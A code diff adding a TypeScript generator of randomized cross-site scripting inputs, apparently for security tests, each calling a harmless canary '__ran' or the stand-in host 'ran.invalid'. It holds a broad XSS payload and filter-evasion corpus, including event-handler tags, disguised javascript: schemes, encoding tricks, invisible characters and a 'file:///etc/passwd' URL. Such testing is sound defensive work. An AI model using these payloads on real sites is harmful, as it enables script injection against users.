@@ -1,0 +1,193 @@
+import { pickOne, type Random } from '#server/platform/random.ts'
+
+/** What a harmful text would do: call `__ran` of the page with its number, or ask this host for it. */
+export const RAN_HOST = 'ran.invalid'
+
+/** A way to write one text of a kind; `n` is its number. */
+export type Way = (n: number, random: Random) => string
+
+const CALLS: Way[] = [
+  (n) => `__ran(${n})`,
+  (n) => `__ran\`${n}\``,
+  (n) => `top.__ran(${n})`,
+  (n) => `self['__ran'](${n})`,
+  (n) => `[${n}].map(__ran)`,
+  (n) => `\\u005f_ran(${n})`,
+  (n) => `&#95;_ran(${n})`,
+  (n) => `&#x5f;_ran&lpar;${n}&rpar;`,
+]
+
+const call: Way = (n, random) => pickOne(CALLS, random)(n, random)
+
+/** An element with the mark `ran`, by which a page that made one of it is known. */
+const ELEMENTS: Way[] = [
+  (n) => `<script ran>__ran(${n})</script>`,
+  (n) => `<script ran src=//${RAN_HOST}/${n}></script>`,
+  (n, random) => `<img ran src=x onerror=${call(n, random)}>`,
+  (n) => `<img ran src=//${RAN_HOST}/${n}>`,
+  (n, random) => `<svg ran onload=${call(n, random)}>`,
+  (n) => `<svg ran><script>__ran(${n})</script>`,
+  (n) => `<svg ran><animate onbegin=__ran(${n}) attributeName=x dur=1s>`,
+  (n) => `<svg ran><a xlink:href=javascript:__ran(${n})><text y=9>x</text></a>`,
+  (n) => `<math ran><mtext href=javascript:__ran(${n})>x`,
+  (n) => `<math><mi><style><img ran src onerror=__ran(${n})></style>`,
+  (n) => `<iframe ran src=javascript:__ran(${n})></iframe>`,
+  (n) => `<iframe ran srcdoc='&lt;script>top.__ran(${n})&lt;/script>'></iframe>`,
+  (n) => `<object ran data=//${RAN_HOST}/${n}></object>`,
+  (n) => `<embed ran src=javascript:__ran(${n})>`,
+  (n, random) => `<details ran open ontoggle=${call(n, random)}>`,
+  (n, random) => `<input ran autofocus onfocus=${call(n, random)}>`,
+  (n) => `<video ran><source onerror=__ran(${n})></video>`,
+  (n) => `<audio ran src=x onerror=__ran(${n})>`,
+  (n, random) => `<body ran onload=${call(n, random)}>`,
+  (n) => `<base ran href=//${RAN_HOST}/${n}/>`,
+  (n) => `<link ran rel=stylesheet href=//${RAN_HOST}/${n}>`,
+  (n) => `<meta ran http-equiv=refresh content='0;url=//${RAN_HOST}/${n}'>`,
+  (n) => `<style ran>@import'//${RAN_HOST}/${n}'</style>`,
+  (n) => `<form ran action=//${RAN_HOST}/${n}><button>go</button></form>`,
+  (n) => `<a ran href=javascript:__ran(${n})>x</a>`,
+  (n) => `<p ran style=background:url(//${RAN_HOST}/${n})>x`,
+  (n) => `<template ran shadowrootmode=open><img src onerror=__ran(${n})>`,
+  (n) => `<x-y ran tabindex=0 autofocus onfocus=__ran(${n})>x`,
+]
+
+/** What would end whatever the text stands in. */
+const ENDS = [
+  '</title>',
+  '</textarea>',
+  '</script>',
+  '</style>',
+  '</noscript>',
+  '</template>',
+  '</option></select>',
+  '</td></tr></table>',
+  '</div></main></body>',
+  '-->',
+  '--!>',
+  '<!-->',
+  ']]>',
+  '?>',
+  '%>',
+]
+
+const SCHEMES = [
+  'javascript:',
+  'JaVaScRiPt:',
+  'java\tscript:',
+  'java\nscript:',
+  ' javascript:',
+  '\u0001javascript:',
+  'javascript&colon;',
+  'javascript&#58;',
+  '&#106;avascript:',
+  '%6aavascript:',
+  'vbscript:',
+  'livescript:',
+  'view-source:javascript:',
+  'javascript://%0a',
+  'javascript:/*--></title></style></textarea>*/',
+]
+
+const FOREIGN: Way[] = [
+  (n) => `//${RAN_HOST}/${n}`,
+  (n) => `/\\${RAN_HOST}/${n}`,
+  (n) => `\\\\${RAN_HOST}\\${n}`,
+  (n) => `https://${RAN_HOST}/${n}`,
+  (n) => `https:${RAN_HOST}/${n}`,
+  (n) => `/\t/${RAN_HOST}/${n}`,
+  (n) => `https://podium@${RAN_HOST}/${n}`,
+  (n) => `data:text/html,<script ran>top.__ran(${n})</script>`,
+  (n) => `data:image/svg+xml,<svg onload=__ran(${n})>`,
+  (n) => `blob:https://${RAN_HOST}/${n}`,
+  (n) => `file:///etc/passwd?${n}`,
+]
+
+const HANDLERS = 'onmouseover onfocus onload onerror onanimationstart onpointerenter ontoggle'.split(' ')
+
+/** Letters in another case, other blanks and slashes between attributes, letters without a width. */
+const DISGUISES: ((markup: string, random: Random) => string)[] = [
+  (markup) => markup,
+  (markup, random) =>
+    markup.replace(/^<(\/?)(\w+)/, (_, slash: string, name: string) => `<${slash}${mixed(name, random)}`),
+  (markup) => markup.replace(' ran', '/ran/'),
+  (markup) => markup.replace(' ran', '\nran\t'),
+  (markup) => markup.replace(' ran', '\fran\r'),
+  (markup) => `<${markup}`,
+  (markup) => markup.replace(/>$/, '//'),
+  (markup) => markup.replace(/>$/, ' x="'),
+]
+
+function mixed(text: string, random: Random): string {
+  return text.replaceAll(/\w/g, (letter) => (random() < 0.5 ? letter.toUpperCase() : letter))
+}
+
+export const element: Way = (n, random) =>
+  pickOne(DISGUISES, random)(pickOne(ELEMENTS, random)(n, random), random)
+
+export const ended: Way = (n, random) => pickOne(ENDS, random) + element(n, random)
+
+/** Ends an attribute and gives the element another, or ends the element. */
+export const attribute: Way = (n, random) => {
+  const quote = pickOne(['"', "'", '`', ' ', '&quot;', '\\"', '"\t', "'/"], random)
+  if (random() < 0.4) return `x${quote}>${element(n, random)}`
+  const more = pickOne(['', ' autofocus tabindex=0', ' style=animation:x', ' href=javascript:0'], random)
+  return `x${quote} ran ${pickOne(HANDLERS, random)}=${call(n, random)}${more} y=${quote}`
+}
+
+export const url: Way = (n, random) =>
+  random() < 0.6 ? pickOne(SCHEMES, random) + call(n, random) : pickOne(FOREIGN, random)(n, random)
+
+/** Markup that becomes markup only where somebody decodes once too often. */
+export const encoded: Way = (n, random) => {
+  const markup = pickOne(ELEMENTS, random)(n, random)
+  const as = (write: (letter: string) => string) => markup.replaceAll(/[<>"'=&]/g, write)
+  const code = (letter: string) => letter.charCodeAt(0)
+  return pickOne(
+    [
+      as((letter) => `&#${code(letter)};`),
+      as((letter) => `&#x${code(letter).toString(16)}`),
+      as((letter) => `%${code(letter).toString(16)}`),
+      as((letter) => `\\u00${code(letter).toString(16)}`),
+      as((letter) => `\\x${code(letter).toString(16)}`),
+      as((letter) => String.fromCodePoint(code(letter) + 0xfee0)),
+      markup.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
+      markup.replaceAll('<', '&amp;lt;'),
+      markup.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
+      markup.replaceAll('<', '\\<'),
+    ],
+    random,
+  )
+}
+
+/** Markup among letters that have no width, turn the direction of writing or join with others. */
+export const unseen: Way = (n, random) => {
+  const sign = pickOne(
+    '\u202e \u2066 \u200b \u200d \ufeff \u00ad \u0301 \u2028 \u2029 \u0085 \u{e0041} \uffff \u034f'.split(
+      ' ',
+    ),
+    random,
+  )
+  const markup = element(n, random)
+  return pickOne(
+    [sign + markup, markup.replace('<', `<${sign}`), `${markup}${sign}`, `${sign}x${n}${sign}`],
+    random,
+  )
+}
+
+/** What ends the data of a page, or begins a script within it. */
+export const inScript: Way = (n, random) =>
+  pickOne(
+    [
+      `</script><script ran>__ran(${n})</script>`,
+      `</ScRiPt\t><img ran src onerror=__ran(${n})>`,
+      `<!--<script>${call(n, random)}`,
+      `"};__ran(${n});//`,
+      `\\"});__ran(${n})//`,
+      `'-__ran(${n})-'`,
+      `\u2028__ran(${n})\u2029`,
+      `]]><script ran>__ran(${n})</script>`,
+      `*/__ran(${n})/*`,
+      `\\u003c/script\\u003e\\u003cscript ran>__ran(${n})</script>`,
+    ],
+    random,
+  )
